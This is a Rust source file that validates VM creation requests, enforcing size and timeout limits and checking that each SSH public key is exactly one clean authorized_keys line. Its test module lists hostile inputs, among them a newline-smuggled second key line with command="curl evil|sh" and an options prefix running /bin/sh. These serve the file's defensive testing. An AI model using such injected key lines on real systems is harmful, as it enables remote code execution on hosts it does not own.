//! What a client may ask of the vmm, checked at the API edge before any
//! work starts: names, SSH public keys (each becomes an `authorized_keys`
//! line in the guest, so one key must stay one line with no options), and
//! upper bounds on sizes and timeouts.

use base64::Engine as _;
use thiserror::Error;

/// Most vCPUs a VM may have.
pub const MAX_VCPUS: u32 = 64;
/// Most memory a VM may have: 256 GiB.
pub const MAX_MEMORY_MIB: u32 = 256 * 1024;
/// Largest disk a VM may ask for: 2 TiB (disks are sparse, but a disk this
/// size already takes resize2fs minutes).
pub const MAX_DISK_BYTES: u64 = 2 << 40;
/// Longest readiness or stop timeout a request may give: one day.
pub const MAX_TIMEOUT_SECS: u32 = 86_400;
/// Most SSH keys one VM may authorize.
pub const MAX_SSH_KEYS: usize = 64;
/// Longest SSH public key line (a 16384-bit RSA key is ~2.8 KB).
pub const MAX_SSH_KEY_LEN: usize = 8 * 1024;

/// Key types sshd accepts in `authorized_keys` that we pass on.
const SSH_KEY_TYPES: [&str; 6] = [
    "ssh-ed25519",
    "ssh-rsa",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "sk-ssh-ed25519@openssh.com",
];
const SK_ECDSA: &str = "sk-ecdsa-sha2-nistp256@openssh.com";

/// A request field the vmm refuses.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum Invalid {
    /// A value above its limit.
    #[error("{field} = {value} is above the limit of {limit}{unit}")]
    TooLarge {
        field: &'static str,
        value: u64,
        limit: u64,
        unit: &'static str,
    },
    /// An SSH public key that is not one `type base64 [comment]` line.
    #[error(
        "SSH public key #{index} is not a valid public key line ({reason}); \
         give one `ssh-ed25519 AAAA… comment` line as in an id_*.pub file"
    )]
    SshKey { index: usize, reason: &'static str },
    /// Too many SSH keys.
    #[error("{count} SSH public keys given; at most {MAX_SSH_KEYS} are allowed")]
    TooManySshKeys { count: usize },
}

/// `value` ≤ `limit`, else [`Invalid::TooLarge`] naming the field.
pub fn at_most(
    field: &'static str,
    value: u64,
    limit: u64,
    unit: &'static str,
) -> Result<(), Invalid> {
    if value > limit {
        return Err(Invalid::TooLarge {
            field,
            value,
            limit,
            unit,
        });
    }
    Ok(())
}

/// A timeout in seconds from a request (0 = the configured default).
pub fn timeout(field: &'static str, secs: u32) -> Result<(), Invalid> {
    at_most(field, secs.into(), MAX_TIMEOUT_SECS.into(), " seconds")
}

/// The sizes of a create request (0 = the configured default).
pub fn resources(vcpus: u32, memory_mib: u32, disk_bytes: u64) -> Result<(), Invalid> {
    at_most("vcpus", vcpus.into(), MAX_VCPUS.into(), "")?;
    at_most(
        "memory_mib",
        memory_mib.into(),
        MAX_MEMORY_MIB.into(),
        " MiB",
    )?;
    at_most("disk_bytes", disk_bytes, MAX_DISK_BYTES, " bytes")
}

/// Every key of a create request, see [`ssh_public_key`].
pub fn ssh_public_keys(keys: &[String]) -> Result<(), Invalid> {
    if keys.len() > MAX_SSH_KEYS {
        return Err(Invalid::TooManySshKeys { count: keys.len() });
    }
    for (i, key) in keys.iter().enumerate() {
        ssh_public_key(key).map_err(|reason| Invalid::SshKey {
            index: i + 1,
            reason,
        })?;
    }
    Ok(())
}

/// One OpenSSH public key line: a known type, a single space, a base64 body
/// that decodes to a key blob of that same type, and optionally a space and
/// a comment. No options, no control characters (so no newline, tab or
/// escape) anywhere. Returns why not.
pub fn ssh_public_key(key: &str) -> Result<(), &'static str> {
    if key.is_empty() {
        return Err("it is empty");
    }
    if key.len() > MAX_SSH_KEY_LEN {
        return Err("it is longer than 8 KiB");
    }
    if key.chars().any(char::is_control) {
        return Err("it contains a control character such as a newline");
    }
    let mut parts = key.splitn(3, ' ');
    let kind = parts.next().unwrap_or_default();
    if !SSH_KEY_TYPES.contains(&kind) && kind != SK_ECDSA {
        return Err(
            "it does not start with a known key type such as ssh-ed25519 (no options before it)",
        );
    }
    let body = parts.next().unwrap_or_default();
    let blob = base64::engine::general_purpose::STANDARD
        .decode(body)
        .map_err(|_| "its key body is not base64")?;
    // The blob starts with its own type as an SSH string (u32 length, bytes).
    let declared = blob
        .get(..4)
        .map(|n| u32::from_be_bytes(n.try_into().expect("4 bytes")) as usize)
        .and_then(|n| blob.get(4..4 + n));
    if declared != Some(kind.as_bytes()) {
        return Err("its key body is not a key of the type it names");
    }
    if blob.len() <= 4 + kind.len() {
        return Err("its key body holds no key");
    }
    if let Some(comment) = parts.next()
        && comment.trim().is_empty()
    {
        return Err("it ends with blanks");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A real ed25519 public key (ssh-keygen output).
    const ED25519: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB9gQtxjDPmHJhap51lRxwAqkw/Ne2kdxvQmZb3iW/UI";

    fn ecdsa256() -> String {
        // type string, curve name, a fake 65-byte point: shape is all we check.
        let mut blob = Vec::new();
        for part in [&b"ecdsa-sha2-nistp256"[..], b"nistp256", &[4u8; 65]] {
            blob.extend_from_slice(&(part.len() as u32).to_be_bytes());
            blob.extend_from_slice(part);
        }
        format!(
            "ecdsa-sha2-nistp256 {}",
            base64::engine::general_purpose::STANDARD.encode(blob)
        )
    }

    #[test]
    fn accepts_real_key_lines() {
        for ok in [
            ED25519.to_owned(),
            format!("{ED25519} user@host"),
            format!("{ED25519} a comment with spaces and ünïcode"),
            ecdsa256(),
        ] {
            assert_eq!(ssh_public_key(&ok), Ok(()), "{ok}");
        }
    }

    #[test]
    fn refuses_hostile_keys() {
        let hostile = [
            String::new(),
            // A second authorized_keys line with attacker options.
            format!("{ED25519} me\ncommand=\"curl evil|sh\" {ED25519}"),
            format!("{ED25519}\n"),
            format!("{ED25519} me\r"),
            format!("{ED25519} \u{1b}[2Jcleared"),
            format!("{ED25519}\tme"),
            format!("{ED25519} "),
            // Options before the type.
            format!("command=\"/bin/sh\" {ED25519}"),
            format!("no-pty {ED25519}"),
            "ssh-ed25519".into(),
            "ssh-ed25519 ".into(),
            "ssh-ed25519 not-base64!".into(),
            "ssh-ed25519 AAAAB3NzaC1yc2E=".into(), // an ssh-rsa blob header
            "ssh-dss AAAAB3NzaC1kc3M=".into(),
            format!(" {ED25519}"),
            format!("ssh-ed25519  {}", &ED25519[12..]),
            format!("ssh-ed25519 {}", "A".repeat(MAX_SSH_KEY_LEN)),
            // Only the type, no key material.
            format!(
                "ssh-ed25519 {}",
                base64::engine::general_purpose::STANDARD.encode(b"\0\0\0\x0bssh-ed25519")
            ),
        ];
        for bad in &hostile {
            assert!(ssh_public_key(bad).is_err(), "accepted {bad:?}");
        }
        let err = ssh_public_keys(&[ED25519.into(), hostile[1].clone()]).unwrap_err();
        assert!(
            err.to_string().contains("#2") && err.to_string().contains("newline"),
            "{err}"
        );
        let many = vec![ED25519.to_owned(); MAX_SSH_KEYS + 1];
        assert!(ssh_public_keys(&many).is_err());
    }

    #[test]
    fn limits_name_the_field_and_limit() {
        assert_eq!(resources(0, 0, 0), Ok(()));
        assert_eq!(resources(MAX_VCPUS, MAX_MEMORY_MIB, MAX_DISK_BYTES), Ok(()));
        let e = resources(1, 1024, u64::MAX).unwrap_err().to_string();
        assert!(
            e.contains("disk_bytes") && e.contains(&MAX_DISK_BYTES.to_string()),
            "{e}"
        );
        let e = resources(1, u32::MAX, 0).unwrap_err().to_string();
        assert!(e.contains("memory_mib") && e.contains("262144 MiB"), "{e}");
        let e = resources(65, 0, 0).unwrap_err().to_string();
        assert!(e.contains("vcpus") && e.contains("64"), "{e}");
        let e = timeout("ready_timeout_seconds", u32::MAX)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("ready_timeout_seconds") && e.contains("86400 seconds"),
            "{e}"
        );
    }
}
